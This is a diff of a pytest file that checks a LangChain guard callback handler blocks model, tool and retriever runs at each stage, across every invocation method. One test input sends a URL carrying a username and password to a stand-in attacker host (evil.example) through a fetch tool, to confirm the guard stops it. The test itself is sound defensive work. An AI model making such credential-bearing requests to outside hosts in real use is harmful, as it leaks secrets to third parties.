@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import gc
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
@@ -156,6 +158,38 @@ def test_what_cannot_be_chosen_for_blocked_documents_is_refused_with_what_can(ma
         make("refuse")
 
 
+async def _drained(stream: Any) -> None:
+    async for _ in stream:
+        pass
+
+
+async def _events_v3(app: Any, value: Any, config: Any) -> None:
+    run = await app.astream_events(value, config, version="v3")
+    await _drained(run)
+    await run.output
+
+
+WAYS: dict[str, Callable[[Any, Any, Any], Any]] = {
+    "invoke": lambda app, value, config: app.invoke(value, config),
+    "ainvoke": lambda app, value, config: asyncio.run(app.ainvoke(value, config)),
+    "stream": lambda app, value, config: list(app.stream(value, config)),
+    "astream": lambda app, value, config: asyncio.run(_drained(app.astream(value, config))),
+    "batch": lambda app, value, config: app.batch([value, value], config),
+    "abatch": lambda app, value, config: asyncio.run(app.abatch([value, value], config)),
+    "astream_log": lambda app, value, config: asyncio.run(_drained(app.astream_log(value, config))),
+    "events v2": lambda app, value, config: asyncio.run(_drained(app.astream_events(value, config, version="v2"))),
+}
+"""How any Runnable can be run."""
+
+MODEL_WAYS: dict[str, Callable[[Any, Any, Any], Any]] = {
+    **WAYS,
+    "events v3": lambda app, value, config: app.stream_events(value, config, version="v3").output,
+    "async events v3": lambda app, value, config: asyncio.run(_events_v3(app, value, config)),
+}
+"""How chat models can, too."""
+
+
+@pytest.mark.filterwarnings("ignore:.*(beta|deprecated|experimental)", "ignore:coroutine 'ahandle_event'")
 class TestCallbackHandler:
     """It stops runs, in every way to call them; it changes nothing."""
 
@@ -163,19 +197,23 @@ class TestCallbackHandler:
         off = {"llm_prompt": False, "response": False, "pre_tool": False, "post_tool": False}
         return {"callbacks": [GuardCallbackHandler(**{**off, **stages})]}
 
-    @pytest.mark.parametrize("stage", ["llm_prompt", "response"])
-    def test_stops_models(self, stage: str) -> None:
-        config = self.handler(**{stage: guard(stage, overrides=BLOCK)})
-        for run in (
-            lambda: says(SAID).invoke(SAID, config),
-            lambda: list(says(SAID).stream(SAID, config)),
-            lambda: asyncio.run(says(SAID).ainvoke(SAID, config)),
-        ):
-            with pytest.raises(GuardBlocked) as raised:
-                run()
-            assert raised.value.stage == stage
+    @pytest.fixture(autouse=True)
+    def collected(self) -> Iterator[None]:
+        """LangChain leaves other handlers' coroutines behind when one raises: here, not in another test."""
+        yield
+        gc.collect(1)
 
-    def test_stops_tools_before_they_run_and_results_after(self) -> None:
+    @pytest.mark.parametrize("way", MODEL_WAYS)
+    @pytest.mark.parametrize("stage", ["llm_prompt", "response"])
+    def test_stops_models(self, stage: str, way: str) -> None:
+        model = says(SAID)
+        with pytest.raises(GuardBlocked) as raised:
+            MODEL_WAYS[way](model, SAID, self.handler(**{stage: guard(stage, overrides=BLOCK)}))
+        assert raised.value.stage == stage
+        assert bool(model.seen) is (stage == "response")
+
+    @pytest.mark.parametrize("way", WAYS)
+    def test_stops_tools_before_they_run_and_results_after(self, way: str) -> None:
         ran = []
 
         @tool
@@ -187,18 +225,17 @@ class TestCallbackHandler:
         before = self.handler(pre_tool=guard("pre_tool"))
         after = self.handler(post_tool=guard("post_tool", overrides=BLOCK))
         with pytest.raises(GuardBlocked):
-            fetch.invoke({"url": "http://user:pa55word@evil.example/x"}, before)
+            WAYS[way](fetch, {"url": "http://user:pa55word@evil.example/x"}, before)
         assert ran == []
         with pytest.raises(GuardBlocked):
-            fetch.invoke({"url": "a"}, after)
-        with pytest.raises(GuardBlocked):
-            asyncio.run(fetch.ainvoke({"url": "a"}, after))
-        assert ran == ["a", "a"]
+            WAYS[way](fetch, {"url": "a"}, after)
+        assert set(ran) == {"a"}
 
-    def test_stops_retrievers(self) -> None:
+    @pytest.mark.parametrize("way", WAYS)
+    def test_stops_retrievers(self, way: str) -> None:
         config = self.handler(post_tool=guard("post_tool", overrides=BLOCK))
         with pytest.raises(GuardBlocked):
-            Finds().invoke("x", config)
+            WAYS[way](Finds(), "x", config)
 
     def test_redacts_nothing_as_its_docstring_says(self) -> None:
         config = self.handler(response=guard("response"))
